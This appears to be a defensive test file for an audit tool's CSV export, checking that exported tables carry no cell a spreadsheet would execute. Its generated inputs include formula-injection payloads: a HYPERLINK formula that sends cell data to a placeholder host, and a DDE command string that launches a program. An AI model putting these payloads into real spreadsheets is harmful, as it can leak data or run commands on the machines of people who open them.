import { expect } from '@open-wc/testing';
import parse from 'csv-simple-parser';
import * as fc from 'fast-check';
import { actionPlanCsv } from '../../src/core/exchange/action-plan-csv.js';
import { readCsv } from '../../src/core/exchange/read-csv.js';
import { readRegisterCsv } from '../../src/core/exchange/read-register-csv.js';
import { readResponseCsv } from '../../src/core/exchange/read-response-csv.js';
import { registerCsv } from '../../src/core/exchange/register-csv.js';
import { responseCsv } from '../../src/core/exchange/response-csv.js';
import { registerAt } from '../../src/core/rights/register.js';
import { generateRegister } from '../../stories/documents/generate-register.js';
import { auditOf, sessionOn } from '../core/audit/an-audit.js';
import { AuditOnPage } from '../elements/audit-on-page.js';

/** What a spreadsheet takes for the beginning of a formula, or drops before it looks for one. */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\u0000+',
  '\ufeff@',
];

/** Words that begin so, or have more of it behind another sign. */
const formulas = fc
  .tuple(
    fc.constantFrom(...beginnings, "'=", "''=", 'a;=', 'a\t=', 'a,=', 'a\n=', '";=', '=";'),
    fc.constantFrom('1+1', 'HYPERLINK("https://elsewhere.example/?"&A1)', "cmd|' /C calc'!A0", 'SUM(A1:A9)', ''),
    fc.string({ maxLength: 3 }),
  )
  .map((parts) => parts.join(''));

/** Every cell of a table, as spreadsheets may part it: a number alone is none that could run. */
function risky(table: string): string[] {
  return [',', ';', '\t'].flatMap((delimiter) =>
    // Only what stands outside quotation marks parts cells where all three signs do.
    (parse(table.slice(1).replaceAll(/[,;\t](?=(?:[^"]*"[^"]*")*[^"]*$)/gu, delimiter), { delimiter }) as string[][])
      .flat()
      .filter((cell) => /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell) && Number.isNaN(Number(cell))),
  );
}

const audit = auditOf({ belonging: [{ id: 'welcome', prefix: '1.1', text: 'A warm welcome' }] });

describe('A table that a spreadsheet opens', () => {
  it('of answers has nothing that it would run, and comes back as it was', async () => {
    await fc.assert(
      fc.asyncProperty(formulas, formulas, formulas, async (note, reason, by) => {
        const evidence = [{ label: `a${note}` }];
        const answer = { notApplicable: { reason }, note, by, evidence, at: '2026-01-01T00:00:00Z' };
        const session = sessionOn(audit, { welcome: answer });
        const table = responseCsv(session, ['en']);
        expect(risky(table)).to.deep.equal([]);
        const { answers } = await readResponseCsv(table, audit, '');
        expect(answers.get('welcome')?.note).to.equal(note);
        expect(answers.get('welcome')?.notApplicable?.reason).to.equal(reason);
        expect(answers.get('welcome')?.by).to.equal(by);
      }),
      { numRuns: 300 },
    );
  });

  it('of a plan has nothing that it would run, and comes back as it was', async () => {
    const statuses = { planned: 'Planned', 'under-way': 'Under way', done: 'Done' };
    const words = { action: 'a', statement: 'b', strand: 'c', owner: 'd', due: 'e', cost: 'f', status: 'g', statuses };
    await fc.assert(
      fc.asyncProperty(formulas, formulas, formulas, async (text, owner, cost) => {
        const session = sessionOn(audit);
        session.changeAction({ id: 'a1', text, owner, cost, status: 'planned' });
        const table = actionPlanCsv(session, ['en'], words);
        expect(risky(table)).to.deep.equal([]);
        const [row] = await readCsv(table);
        expect(['a', 'd', 'f'].map((name) => row?.cells.get(name))).to.deep.equal([text, owner, cost]);
      }),
      { numRuns: 300 },
    );
  });

  it('of a register has nothing that it would run, and comes back as it was', async () => {
    await fc.assert(
      fc.asyncProperty(formulas, formulas, formulas, async (name, ward, note) => {
        const school = { name, urn: ward, identifier: note, phase: ward, ward, locality: note, url: name, note };
        const table = registerCsv(registerAt({ ...generateRegister(0), schools: [school] }));
        expect(risky(table)).to.deep.equal([]);
        const { schools } = await readRegisterCsv(table);
        // A name of blanks alone is none.
        expect(schools).to.deep.equal(name.trim() === '' ? [] : [school]);
      }),
      { numRuns: 300 },
    );
  });

  it('is found out when it has', () => {
    expect(risky('\ufeffa,b;=1\r\n')).to.include('=1');
    expect(risky('\ufeff"\t=1",-1\r\n')).to.deep.equal(['\t=1', '\t=1', '\t=1']);
  });
});

describe('A file of answers of more than 5 MB', () => {
  for (const name of ['answers.json', 'answers.csv']) {
    it(`is refused before it is read: ${name}`, async () => {
      const { element } = await AuditOnPage.open({ storage: 'none' });
      const file = new File([new Uint8Array(5_000_001)], name);
      Object.defineProperty(file, 'text', {
        value: () => {
          throw new Error('it was read');
        },
      });
      const refused = await element.importResponse(file).catch((error: unknown) => error);
      expect((refused as { problems?: { code: string }[] }).problems?.map(({ code }) => code)).to.deep.equal([
        'too-large',
      ]);
    });
  }
});
